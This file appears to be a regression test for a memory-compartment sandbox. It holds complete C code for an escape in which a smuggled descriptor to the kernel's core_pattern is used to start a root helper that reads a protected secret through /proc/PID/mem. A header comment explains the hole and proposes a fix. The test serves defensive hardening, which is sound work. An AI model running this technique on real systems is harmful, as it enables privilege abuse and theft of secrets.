// Review 31, attacker model B (the default domain's program counter, any
// system call the filter allows), with a descriptor the program holds at
// start-up but cannot see: review 30's queued descriptor, this time on a
// kernel setting. The launcher (root) opens /proc/sys/kernel/core_pattern
// for writing, queues that descriptor (SCM_RIGHTS) on a socketpair end it
// hands over as fd 9, closes its own copy and runs the program (as root:
// a sysctl checks the writer's ids at each write, not only at the open).
// syscalls.c refuse_setting_descriptors walks /proc/self/fd only when the
// filter is installed: it sees a socket, no descriptor on a setting. (The
// start-up copies treat a held Unix socket as a possible writable
// descriptor since review 30; this walk does not.) After main, recvmsg
// (allowed) hands the descriptor over, no open the supervisor could
// refuse (it refuses root's own open of core_pattern since review 30);
// main writes "|HELPER PID ADDR OUT" through it and aborts a bystander
// (any process outside the filter with the usual core limit 0; a fork of
// its own would not do: its limit is 1, which the kernel skips for a pipe
// helper); the kernel starts HELPER as root outside the filter, which
// reads the vault's secret through /proc/PID/mem.
//
// Here the control is launched the same way and reads the secret from the
// default domain: it faults.
//
// Seen in the guest (root): ATTACK SUCCEEDED (since RLIMIT_CORE 1, with a
// bystander's dump).
//
// Suggested fix: at the filter's installation, a process that holds a
// Unix socket is treated as holding such a descriptor: refused, or the
// sockets' queues are drained and judged (as the start-up copies do,
// supervisor-own.c holds_unix_socket); in any case, the kernel settings
// are better kept by what the kernel runs than by opens: no core dumps for
// a process with compartments (attacks-rev31-core-from-vault.c).
// XFAIL: *
// REQUIRES: pku
// RUN: rm -rf %t && mkdir -p %t
// RUN: %clang -O1 %S/Inputs/mem-reader.c -o %t/helper
// RUN: %clang -DLAUNCHER -O1 %s -o %t/launch
// RUN: %bulkhead_clang -fpkey-compartments -O1 %s -o %t/prog
// RUN: env BULKHEAD_VM_FILES=%t/prog:%t/helper %run %t/launch %t/prog control %t/helper > %t/control.out 2>&1 || true
// RUN: FileCheck --check-prefix=CONTROL %s < %t/control.out
// RUN: env BULKHEAD_VM_FILES=%t/prog:%t/helper %run %t/launch %t/prog attack %t/helper > %t/out 2>&1 || true
// RUN: FileCheck %s < %t/out
// CONTROL: uid 0
// CONTROL-NOT: ATTACK SUCCEEDED
// CONTROL: bulkhead: protection-key fault: access to 0x{{[0-9a-f]+}} in compartment 'vault'
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: bulkhead: {{.*}}kernel setting
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>
#include "../runtime/Inputs/pass-fd.h"

#ifdef LAUNCHER
/* launch PROG ARGS...: core_pattern open for writing, queued on the
 * socket that becomes fd 9 and closed; a bystander (any process outside
 * the filter whose core limit is 0, the usual soft limit), its pid in
 * BYSTANDER; then PROG. */
int main(int argc, char **argv) {
  if (argc < 2)
    return 2;
  pid_t bystander = fork();
  if (bystander == 0) {
    struct rlimit none = {0, RLIM_INFINITY};
    setrlimit(RLIMIT_CORE, &none);
    sleep(60);
    _exit(0);
  }
  char pid[16];
  snprintf(pid, sizeof pid, "%d", (int)bystander);
  setenv("BYSTANDER", pid, 1);
  int sv[2], fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
  if (fd < 0 || socketpair(AF_UNIX, SOCK_DGRAM, 0, sv))
    return 2;
  if (send_fd(sv[0], fd))
    return 2;
  close(fd);
  close(sv[0]);
  if (dup2(sv[1], 9) != 9)
    return 2;
  close(sv[1]);
  execv(argv[1], argv + 1);
  return 127;
}
#else
#include <bulkhead.h>

BULKHEAD_DATA(vault) static char secret[32] = "TOP-SECRET-VAULT-KEY";
BULKHEAD_ENTRY(vault) int vault_len(void) { return (int)strlen(secret); }

int main(int argc, char **argv) {
  printf("uid %d\nvault says %d\n", (int)getuid(), vault_len());
  fflush(stdout);
  if (argc < 3)
    return 2;
  static char copy[32];
  if (strcmp(argv[1], "attack")) {
    memcpy(copy, secret, 31); /* faults: the vault is closed here */
    printf("read directly: %s\n", copy);
    return 0;
  }
  int fd = receive_fd(9);
  const char *out = "/tmp/r31q.out";
  /* core_pattern keeps 127 bytes: the helper under a short name */
  unlink("/tmp/r31h");
  if (symlink(argv[2], "/tmp/r31h"))
    printf("symlink failed\n");
  char pattern[128];
  snprintf(pattern, sizeof pattern, "|/tmp/r31h %d %lx %s", (int)getpid(),
           (unsigned long)secret, out);
  long put = fd < 0 ? -1 : (long)write(fd, pattern, strlen(pattern));
  printf("received a descriptor: %d, core_pattern written: %ld\n", fd >= 0,
         put);
  fflush(stdout);
  /* Not a fork of ours: its core limit is 1, which the kernel skips for a
   * pipe. The bystander's is 0, which it does not. */
  const char *bystander = getenv("BYSTANDER");
  printf("bystander signalled: %d\n",
         bystander && !kill(atoi(bystander), SIGABRT));
  long got = -1; /* the helper runs on its own: 10 s at most */
  for (int i = 0; i < 100 && got != 31; i++) {
    int f = open(out, O_RDONLY);
    got = f < 0 ? -1 : (long)read(f, copy, 31);
    if (f >= 0)
      close(f);
    if (got != 31)
      usleep(100000);
  }
  if (fd >= 0 && lseek(fd, 0, SEEK_SET) == 0 && write(fd, "core", 4) != 4)
    printf("core_pattern not put back\n");
  if (strstr(copy, "TOP-SECRET"))
    printf("ATTACK SUCCEEDED: the vault's secret read: %s\n", copy);
  else
    printf("attack failed\n");
  return 0;
}
#endif
